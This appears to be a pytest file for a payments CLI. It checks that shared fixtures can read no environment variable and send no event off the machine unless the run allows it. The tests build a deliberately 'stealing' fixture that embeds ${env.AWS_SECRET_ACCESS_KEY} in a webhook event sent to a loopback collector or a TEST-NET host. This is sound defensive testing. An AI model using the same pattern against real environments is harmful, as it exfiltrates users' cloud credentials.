"""A fixture is someone else's code (issue 38): it reads no environment variable the run does
not allow (`--allow-env NAME`, a profile's `allow_env`), and its events go to no host that is
neither this machine nor the profile's service unless the run allows it (`--allow-remote`, or
a yes in the TUI). The real things: a real environment value, a real loopback server that
would receive it, a real sandbox; only the host off this machine is not real (none is here)."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from payscope.api.fixtures.files import parse_fixture
from payscope.api.fixtures.running import run_fixture
from payscope.api.fixtures.steps import Allowed, FixtureError
from payscope.webhooks import compose
from tests.tools.conftest import Service, payscope

SECRET_VALUE = "wJalrXUtnFEMI-K7MDENG-bPxRfiCY-EXAMPLEKEY"
SIGNING = "whsec-trust-" + "t" * 40


class Collector:
    """A loopback HTTP server that keeps every request it is sent (what an attacker's
    collector would get) and answers 200."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.url = ""

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n"):
            if line.lower().startswith(b"content-length:"):
                length = int(line.split(b":", 1)[1])
        body = await reader.readexactly(length) if length else b""
        self.received.append(head + body)
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}")
        await writer.drain()
        writer.close()


@pytest.fixture
async def collector() -> AsyncIterator[Collector]:
    found = Collector()
    server = await asyncio.start_server(found._serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    found.url = f"http://127.0.0.1:{port}/collect"
    try:
        yield found
    finally:
        server.close()
        await server.wait_closed()


def stealing_fixture(path: Path, to: str) -> Path:
    """A payment, then an event to `to` carrying the user's AWS secret."""
    event = compose.template("payment_succeeded")
    event["content"]["object"]["description"] = "${env.AWS_SECRET_ACCESS_KEY}"
    steps = [
        {"name": "payment", "method": "POST", "path": "/payments",
         "body": {"amount": 500, "currency": "USD", "confirm": False}},
        {"name": "leak", "event": event, "to": to},
    ]  # fmt: skip
    path.write_text(json.dumps({"name": "shared", "steps": steps}), encoding="utf-8")
    return path


async def payment_count(service: Service) -> int:
    return (await service.client.payments.list()).total_count or 0


async def test_an_env_variable_is_refused_unless_the_run_allows_its_name(
    service: Service, collector: Collector, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from payscope.core import config

    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET_VALUE)
    secret = tmp_path / "signing"
    secret.write_text(SIGNING)
    fixture = stealing_fixture(tmp_path / "shared.json", collector.url)
    before = await payment_count(service)
    base = ("fixtures", "run", str(fixture), "--profile", "box", "--secret-file", str(secret))
    refused = await payscope(*base)
    assert refused.status == 1, refused.err
    assert "${env.AWS_SECRET_ACCESS_KEY}" in refused.err
    assert "--allow-env AWS_SECRET_ACCESS_KEY" in refused.err and "allow_env" in refused.err
    assert "nothing was run" in refused.err and SECRET_VALUE not in refused.err + refused.out
    assert collector.received == [] and await payment_count(service) == before
    # Another name allowed is not this one.
    other = await payscope(*base, "--allow-env", "HOME")
    assert other.status == 1 and collector.received == []

    allowed = await payscope(*base, "--allow-env", "AWS_SECRET_ACCESS_KEY")
    assert allowed.status == 0, allowed.err
    assert len(collector.received) == 1 and SECRET_VALUE.encode() in collector.received[0]

    # The profile's list allows it as well.
    settings = config.load_settings()
    settings.profiles["box"].allow_env = ["AWS_SECRET_ACCESS_KEY"]
    config.save_settings(settings)
    by_profile = await payscope(*base)
    assert by_profile.status == 0, by_profile.err
    assert len(collector.received) == 2


async def test_an_event_to_another_host_needs_allow_remote(
    service: Service, tmp_path: Path
) -> None:
    secret = tmp_path / "signing"
    secret.write_text(SIGNING)
    off = "http://192.0.2.1:9/collect"  # TEST-NET-1: off this machine
    fixture = stealing_fixture(tmp_path / "shared.json", off)
    text = json.loads(fixture.read_text())
    text["steps"][1]["event"]["content"]["object"]["description"] = "nothing secret"
    fixture.write_text(json.dumps(text))
    before = await payment_count(service)
    done = await payscope(
        "fixtures", "run", str(fixture), "--profile", "box", "--secret-file", str(secret)
    )
    assert done.status == 1, done.err
    assert f"the event would go to {off}" in done.err and "--allow-remote" in done.err
    assert "Nothing was run" in done.err and "Traceback" not in done.err
    assert await payment_count(service) == before


async def test_a_target_built_at_run_time_is_checked_when_it_is_known(
    service: Service,
) -> None:
    """A `to` made from an earlier answer is judged once filled in; a no stops the run there,
    a yes (or --allow-remote) sends it. The host off this machine is the only thing not real:
    what would go to it is kept by the sender."""
    text = json.dumps(
        {
            "steps": [
                {"name": "payment", "method": "POST", "path": "/payments",
                 "body": {"amount": 700, "currency": "USD", "confirm": False}},
                {"name": "tell", "event": compose.template("payment_succeeded"),
                 "to": "http://192.0.2.1:9/${payment.payment_id}"},
            ]
        }
    )  # fmt: skip
    fixture = parse_fixture(text, "json", source="built.json")
    sent: list[str] = []

    async def send(event: dict[str, Any], to: str) -> tuple[int | None, Any, str]:
        sent.append(to)
        return 200, {}, ""

    asked: list[str] = []

    async def no(url: str) -> bool:
        asked.append(url)
        return False

    with pytest.raises(FixtureError) as caught:
        async for _ in run_fixture(service.client, fixture, send, Allowed(ask_remote=no)):
            pass
    assert sent == [] and len(asked) == 1 and asked[0].startswith("http://192.0.2.1:9/pay_")
    assert "You did not allow it" in str(caught.value)
    assert [m.step for m in caught.value.made] == ["payment"]  # said: what was made before

    async def yes(url: str) -> bool:
        return True

    ran = [r async for r in run_fixture(service.client, fixture, send, Allowed(ask_remote=yes))]
    assert [r.status for r in ran] == [200, 200] and len(sent) == 1
    ran = [r async for r in run_fixture(service.client, fixture, send, Allowed(remote=True))]
    assert len(sent) == 2
    # This machine and the profile's own service need nothing.
    for to in ("http://127.0.0.1:9/x", "http://localhost:9/x", f"{service.url}/hooks"):
        local = parse_fixture(
            json.dumps({"steps": [{"name": "e", "event": compose.template("payment_failed"),
                                   "to": to}]}),
            "json",
        )  # fmt: skip
        assert [r.status async for r in run_fixture(service.client, local, send)] == [200]
    assert sent[-3:] == ["http://127.0.0.1:9/x", "http://localhost:9/x", f"{service.url}/hooks"]
